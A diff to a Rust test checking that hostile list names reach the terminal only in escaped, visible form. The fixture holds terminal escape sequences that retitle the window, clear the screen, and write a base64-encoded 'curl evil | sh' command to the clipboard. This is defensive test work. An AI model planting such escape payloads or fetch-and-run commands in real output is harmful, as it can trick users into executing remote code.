@@ -104,7 +104,10 @@ fn hostile_term_lists_reach_no_output_raw() {
             let name = list.unwrap()["list"].as_str().unwrap();
             assert_eq!(name, "恶意␛]0;pwned␇␛]52;c;Y3VybCBldmlsIHwgc2g=␇␛[2J\u{FFFD}31m\u{FFFD}");
         } else if !args.contains(&"-o") {
-            assert!(text.contains("恶意␛") && text.contains("pwned␇"), "{args:?}: the list is shown, made visible: {text}");
+            assert!(
+                text.contains("恶意␛") && text.contains("pwned␇"),
+                "{args:?}: the list is shown, made visible: {text}"
+            );
         }
     }
     let brief = std::fs::read(&exported).unwrap();
